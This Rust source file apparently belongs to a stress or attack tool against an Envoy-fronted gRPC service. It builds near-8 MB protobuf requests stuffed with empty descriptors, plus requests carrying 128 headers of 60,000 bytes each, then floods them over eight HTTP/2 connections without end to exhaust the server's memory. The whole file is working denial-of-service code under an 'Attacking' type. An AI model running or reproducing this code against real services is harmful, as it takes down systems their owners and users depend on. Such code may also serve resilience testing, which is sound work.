//! Messages that are small on the wire for what they would be in memory, and the largest that
//! Envoy sends.

use std::io::Result;
use std::sync::Arc;

use tokio::io::AsyncWriteExt;

use super::crowd::{Attacking, crowd};
use crate::frames::{
    Head, PAYLOAD_BYTES_MAX, WINDOW, call, flag, frame, kind, with_length, write_field,
};
use crate::peer::{acknowledge, connect_h2, read_frame, source};
use crate::stream::Stream;
use crate::target::Target;

const CONNECTIONS: u32 = 8;
/// The largest message that the service accepts, nearly.
const MESSAGE_BYTES: usize = (8 << 20) - 4096;
/// The entry of a descriptor that can be decided on: `k: many`.
const ENTRY: &[u8] = b"\x0a\x09\x0a\x01k\x12\x04many";
/// A field without a value: an entry of a descriptor, and a descriptor of a request.
const EMPTY_ENTRY: &[u8] = b"\x0a\x00";
const EMPTY_DESCRIPTOR: &[u8] = b"\x12\x00";
/// The most descriptors of a request.
const DESCRIPTORS: usize = 128;
/// The largest header that Envoy accepts, nearly.
const HEADER_BYTES: usize = 60_000;

/// The sending windows of a connection and of its one open stream.
struct Windows {
    connection: i64,
    initial: i64,
    stream: i64,
}

/// Requests of millions of empty descriptors, or of empty entries, again and again.
pub(super) fn messages(target: Target) -> Attacking {
    send_again_and_again(target, [of_descriptors(), of_entries()])
}

/// Requests of many descriptors with one long header, and of as many with long headers that differ,
/// again and again.
pub(super) fn wide_messages(target: Target) -> Attacking {
    send_again_and_again(target, [of_headers(|_| 0), of_headers(|number| number)])
}

/// Sends these messages, one half of the connections each.
fn send_again_and_again(target: Target, messages: [Vec<u8>; 2]) -> Attacking {
    let messages = messages.map(Arc::new);
    crowd(CONNECTIONS, move |number| {
        let message = Arc::clone(&messages[usize::from(number % 2 == 1)]);
        async move {
            let mut stream = connect_h2(source(number), target.grpc, WINDOW).await?;
            let mut windows = Windows::new();
            for id in (1..).step_by(2) {
                send(&mut stream, id, &message, &mut windows).await?;
            }
            Ok(())
        }
    })
}

/// A request of the most descriptors that are decided on, and empty ones.
fn of_descriptors() -> Vec<u8> {
    let mut request = b"\x0a\x01d".to_vec();
    for _ in 0..DESCRIPTORS {
        write_field(&mut request, 2, ENTRY);
    }
    let empty = EMPTY_DESCRIPTOR.repeat((MESSAGE_BYTES - request.len()) / 2);
    with_length(&[request, empty].concat())
}

/// A request of one descriptor, with an entry and empty ones.
fn of_entries() -> Vec<u8> {
    let mut request = b"\x0a\x01d".to_vec();
    let empty = EMPTY_ENTRY.repeat(MESSAGE_BYTES / 2);
    write_field(&mut request, 2, &[ENTRY, &empty].concat());
    with_length(&request)
}

/// A request of descriptors that can be decided on, each with a long value that has a number.
fn of_headers(number: fn(usize) -> usize) -> Vec<u8> {
    let mut request = b"\x0a\x01d".to_vec();
    for descriptor in 0..DESCRIPTORS {
        let value = format!("{:0HEADER_BYTES$}", number(descriptor));
        let mut entry = b"\x0a\x01k".to_vec();
        write_field(&mut entry, 2, value.as_bytes());
        let mut entries = Vec::new();
        write_field(&mut entries, 1, &entry);
        write_field(&mut request, 2, &entries);
    }
    with_length(&request)
}

/// Sends a call, as fast as flow control permits, until it is answered.
async fn send(stream: &mut Stream, id: u32, message: &[u8], windows: &mut Windows) -> Result<()> {
    windows.stream = windows.initial;
    let mut out = Vec::new();
    frame(&mut out, kind::HEADERS, flag::END_HEADERS, id, &call(&[]));
    let mut rest = message;
    loop {
        while let Some((payload, after)) = rest.split_at_checked(windows.room(rest.len()))
            && !payload.is_empty()
        {
            let end = match after {
                [] => flag::END_STREAM,
                _ => flag::NONE,
            };
            frame(&mut out, kind::DATA, end, id, payload);
            windows.use_up(payload.len());
            rest = after;
        }
        stream.write_all(&out).await?;
        out.clear();
        let (head, payload) = read_frame(stream).await?;
        acknowledge(stream, head, &payload).await?;
        windows.hear(head, &payload);
        let ends = head.kind == kind::HEADERS && head.flags & flag::END_STREAM != 0;
        if ends || head.kind == kind::RST_STREAM {
            return Ok(());
        }
    }
}

// === impl Windows ===

impl Windows {
    fn new() -> Windows {
        let window = i64::from(WINDOW);
        Windows {
            connection: window,
            initial: window,
            stream: window,
        }
    }

    /// How many of so many bytes may be sent in a frame.
    fn room(&self, bytes: usize) -> usize {
        let open = usize::try_from(self.connection.min(self.stream)).unwrap_or(0);
        open.min(bytes).min(PAYLOAD_BYTES_MAX)
    }

    fn use_up(&mut self, bytes: usize) {
        let bytes = i64::try_from(bytes).unwrap_or(0);
        self.connection -= bytes;
        self.stream -= bytes;
    }

    /// Handles a frame of the service that enlarges a window.
    fn hear(&mut self, head: Head, payload: &[u8]) {
        let number = |bytes: &[u8]| {
            let bytes = bytes.try_into().unwrap_or([0; 4]);
            i64::from(u32::from_be_bytes(bytes))
        };
        match head.kind {
            kind::WINDOW_UPDATE if head.stream == 0 => self.connection += number(payload),
            kind::WINDOW_UPDATE => self.stream += number(payload),
            kind::SETTINGS => {
                for setting in payload.chunks_exact(6).filter(|setting| setting[1] == 4) {
                    let initial = number(&setting[2..]);
                    self.stream += initial - self.initial;
                    self.initial = initial;
                }
            }
            _ => {}
        }
    }
}
